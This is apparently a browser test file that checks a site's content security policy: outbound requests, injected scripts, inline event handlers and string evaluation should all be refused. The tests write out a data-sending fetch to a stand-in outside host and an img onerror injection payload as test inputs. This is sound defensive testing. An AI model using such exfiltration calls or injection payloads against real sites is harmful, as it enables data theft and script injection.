import {expect, test} from "vitest";
import {useBrowser} from "./browser-test.js";

const open = useBrowser();

/** What a page does when it is told to; "refused" when the browser does not let it. */
async function attempt(path: string, action: () => Promise<unknown>): Promise<unknown> {
  const visit = await open(path);
  try {
    return await visit.page.evaluate(action).catch(() => "refused");
  } finally {
    await visit.close();
  }
}

test("a page can not send data to another host", async () => {
  const result = await attempt("/", () => fetch("http://outside.invalid/?data=1").then(() => "sent"));
  expect(result).toBe("refused");
});

test("a script put into a page does not run", async () => {
  const result = await attempt("/", async () => {
    const script = document.createElement("script");
    script.textContent = "window.__ran = true";
    document.body.append(script);
    return "__ran" in window;
  });
  expect(result).toBe(false);
});

test("an event handler in injected HTML does not run", async () => {
  const result = await attempt("/", async () => {
    const holder = document.createElement("div");
    holder.innerHTML = '<img src="data:," onerror="window.__ran = true">';
    document.body.append(holder);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return "__ran" in window;
  });
  expect(result).toBe(false);
});

test("text can not become code", async () => {
  const visit = await open("/");
  try {
    const ran = await visit.page.evaluate(
      () =>
        new Promise((resolve) => {
          const blob = new Blob(["postMessage('ran')"], {
            type: "text/javascript",
          });
          setTimeout(() => {
            try {
              resolve(new Function("return 'ran'")());
            } catch {
              resolve("refused");
            }
          }, 0);
          URL.revokeObjectURL(URL.createObjectURL(blob));
        }),
    );
    expect(ran).toBe("refused");
  } finally {
    await visit.close();
  }
});

test("a path that does not exist shows the 404 page", async () => {
  const visit = await open("/");
  try {
    const response = await visit.page.goto(`${new URL(visit.page.url()).origin}/no/such/page`);
    expect(response?.status()).toBe(404);
  } finally {
    await visit.close();
  }
});
